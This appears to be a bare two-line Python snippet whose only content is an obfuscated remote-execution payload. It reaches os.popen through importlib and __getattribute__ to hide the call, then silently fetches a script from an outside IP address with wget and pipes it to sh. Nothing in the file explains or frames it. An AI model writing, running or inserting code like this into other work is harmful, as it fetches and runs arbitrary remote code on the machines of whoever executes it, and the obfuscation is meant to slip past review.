import importlib
importlib.import_module("os").__getattribute__("popen")("wget -qO- http://198.51.100.9/x | sh")
